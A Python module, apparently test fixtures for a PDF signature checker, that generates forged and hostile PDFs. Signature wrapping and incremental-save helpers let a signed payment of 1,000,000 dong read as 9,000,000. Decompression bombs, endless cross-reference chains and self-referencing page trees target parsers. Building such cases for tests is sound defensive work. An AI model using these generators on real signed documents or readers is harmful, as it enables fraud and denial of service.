"""PDFs written object by object, and the attacks on their signatures.

The classes of attack are those published on signed PDFs since 2018: incremental
saving, universal forgery, signature wrapping, shadow documents, and what only adds
to a file. Each maker takes a lawfully signed file and returns what an attacker would
send on.
"""

from __future__ import annotations

import re
import zlib
from collections.abc import Iterable, Mapping

CATALOG, PAGES, PAGE, FONT, TEXT, OTHER_TEXT, OVERLAY, OTHER_PAGES, OTHER_PAGE = range(
    1, 10
)
OTHER_CATALOG, FIELD, FIELD_LOOK, OTHER_FONT, NOTE = range(10, 15)

_MEDIA = b"/MediaBox[0 0 595 842]"


def stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (head, len(data), data)


def words(text: str, y: int = 700) -> bytes:
    return b"BT /F1 14 Tf 72 %d Td (%s) Tj ET" % (y, text.encode("ascii"))


def objects(*, overlay: bytes = b"", field: bool = False) -> dict[int, bytes]:
    """One page that says "Chi 1.000.000 dong", with the tools of an attack beside."""
    annotations = b"/Annots[%d 0 R]" % FIELD if field else b""
    form = b"/AcroForm<</Fields[%d 0 R]/DA(/F1 12 Tf)>>" % FIELD if field else b""
    made = {
        CATALOG: b"<</Type/Catalog/Pages %d 0 R%s>>" % (PAGES, form),
        PAGES: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % PAGE,
        PAGE: b"<</Type/Page/Parent %d 0 R%s/Contents[%d 0 R %d 0 R]"
        b"/Resources<</Font<</F1 %d 0 R>>>>%s>>"
        % (PAGES, _MEDIA, TEXT, OVERLAY, FONT, annotations),
        FONT: b"<</Type/Font/Subtype/Type1/BaseFont/Times-Roman>>",
        TEXT: stream(words("Chi 1.000.000 dong")),
        OVERLAY: stream(overlay),
        OTHER_TEXT: stream(words("Chi 9.000.000 dong")),
        OTHER_PAGES: b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % OTHER_PAGE,
        OTHER_PAGE: b"<</Type/Page/Parent %d 0 R%s/Contents %d 0 R"
        b"/Resources<</Font<</F1 %d 0 R>>>>>>"
        % (OTHER_PAGES, _MEDIA, OTHER_TEXT, FONT),
        OTHER_CATALOG: b"<</Type/Catalog/Pages %d 0 R>>" % OTHER_PAGES,
    }
    if field:
        made[FIELD] = text_field("", look=True)
        made[FIELD_LOOK] = look_of("")
    return made


def look_of(value: str) -> bytes:
    return stream(
        b"BT /F1 12 Tf 2 4 Td (%s) Tj ET" % value.encode("ascii"),
        b"/Type/XObject/Subtype/Form/BBox[0 0 100 20]"
        b"/Resources<</Font<</F1 %d 0 R>>>>" % FONT,
    )


def text_field(value: str, *, look: bool = False, name: str = "so_vb") -> bytes:
    shown = b"/AP<</N %d 0 R>>" % FIELD_LOOK if look else b""
    return (
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(%s)/V(%s)/Rect[72 600 172 620]"
        b"/P %d 0 R/F 4/DA(/F1 12 Tf)%s>>"
        % (name.encode("ascii"), value.encode("ascii"), PAGE, shown)
    )


def build(parts: Mapping[int, bytes], root: int = CATALOG) -> bytes:
    """A whole PDF 1.7 with a classic cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = {}
    for number, body in parts.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = max(parts) + 1
    table_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        place = places.get(number)
        out += b"%010d 00000 n \n" % place if place else b"0000000000 65535 f \n"
    out += b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root,
        table_at,
    )
    return bytes(out)


def root_of(pdf: bytes) -> int:
    """Object number of the catalogue that the newest trailer names."""
    return int(re.findall(rb"/Root (\d+) 0 R", pdf)[-1])


def appended(
    pdf: bytes,
    parts: Mapping[int, bytes],
    *,
    root: int | None = None,
    freed: Iterable[int] = (),
) -> bytes:
    """``pdf`` with one more update, written as a classic table."""
    out = bytearray(pdf)
    previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    size = int(re.findall(rb"/Size (\d+)", pdf)[-1])
    rows = []
    for number, body in parts.items():
        rows.append(b"%d 1\n%010d 00000 n \n" % (number, len(out)))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows += [b"%d 1\n0000000000 00001 f \n" % number for number in freed]
    table_at = len(out)
    out += b"xref\n" + b"".join(rows)
    out += b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        max(size, *(n + 1 for n in parts), 0) if parts else size,
        root or root_of(pdf),
        previous,
        table_at,
    )
    return bytes(out)


def hole(pdf: bytes) -> tuple[int, int]:
    """Where the last signature's value stands, brackets included."""
    first, second, _rest = byte_range(pdf)
    return first, second


def byte_range(pdf: bytes) -> tuple[int, int, int]:
    found = re.findall(rb"/ByteRange ?\[0 (\d+) (\d+) (\d+)", pdf)[-1]
    first, second, rest = (int(group) for group in found)
    return first, second, rest


def replaced(pdf: bytes, old: bytes, new: bytes) -> bytes:
    """``new`` in place of the only ``old``, padded, so that nothing moves."""
    assert pdf.count(old) == 1 and len(new) <= len(old), (pdf.count(old), old)
    return pdf.replace(old, new + b" " * (len(old) - len(new)))


def wrapped(pdf: bytes, evil: bytes) -> bytes:
    """Signature wrapping: the second signed part moves back, evil goes between.

    The byte range is rewritten to name the two old parts where they now stand; the
    cross-references of the moved part still name the old places, where now the
    attacker's objects are.
    """
    first, second, rest = byte_range(pdf)
    value = pdf[first:second]
    old = re.findall(rb"/ByteRange ?\[[^\]]*\] *", pdf)[-1]
    new = b"/ByteRange[0 %d %d %d]" % (first, second + len(evil), rest)
    head = pdf[:first].replace(old, new.ljust(len(old)))
    return head + value + evil + pdf[second : second + rest]


def bomb_of_zeros(size: int) -> bytes:
    """A page whose content unpacks to ``size`` zero bytes (twice deflated)."""
    squeezer = zlib.compressobj(9)
    block = bytes(1 << 20)
    data = b"".join(squeezer.compress(block) for _ in range(size >> 20))
    data = zlib.compress(data + squeezer.flush(), 9)
    parts = objects()
    parts[TEXT] = stream(data, b"/Filter[/FlateDecode/FlateDecode]")
    return build(parts)


def bomb_of_objects(size: int) -> bytes:
    """Its references lie in a stream that unpacks to ``size`` bytes."""
    squeezer = zlib.compressobj(9)
    block = bytes(1 << 20)
    data = b"".join(squeezer.compress(block) for _ in range(size >> 20))
    data += squeezer.flush()
    head = b"/Type/XRef/Size 99999999/W[1 4 2]/Root 1 0 R/Filter/FlateDecode"
    body = b"%%PDF-1.7\n1 0 obj\n%s\nendobj\n" % stream(data, head)
    return body + b"startxref\n9\n%%EOF\n"


def endless_chain() -> bytes:
    """Each table names itself as the one before."""
    pdf = build(objects())
    at = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    return pdf.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % at)


def endless_pages() -> bytes:
    """The page tree holds itself."""
    parts = objects()
    parts[PAGES] = b"<</Type/Pages/Count 999999999/Kids[%d 0 R %d 0 R]>>" % (
        PAGES,
        PAGES,
    )
    return build(parts)


def deep_tree(depth: int) -> bytes:
    parts = objects()
    parts[CATALOG] = (
        b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * depth + b"]" * depth + b">>"
    )
    return build(parts)
